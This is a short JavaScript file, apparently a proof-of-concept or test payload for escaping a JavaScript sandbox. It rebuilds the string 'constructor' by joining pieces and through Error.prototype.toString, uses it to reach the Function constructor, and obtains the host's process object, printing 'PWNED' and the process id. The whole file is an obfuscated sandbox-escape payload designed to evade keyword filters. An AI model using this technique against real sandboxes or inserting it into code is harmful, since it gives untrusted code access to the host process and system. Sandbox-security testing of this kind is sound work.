'use strict';
const w = ['con', 'structor'].join('');
const fn = (x) => x;
const { toString } = new Error('');
const o = { name: w, message: '', toString };
console.log('PWNED', fn[`${o}`]('return process')().pid);
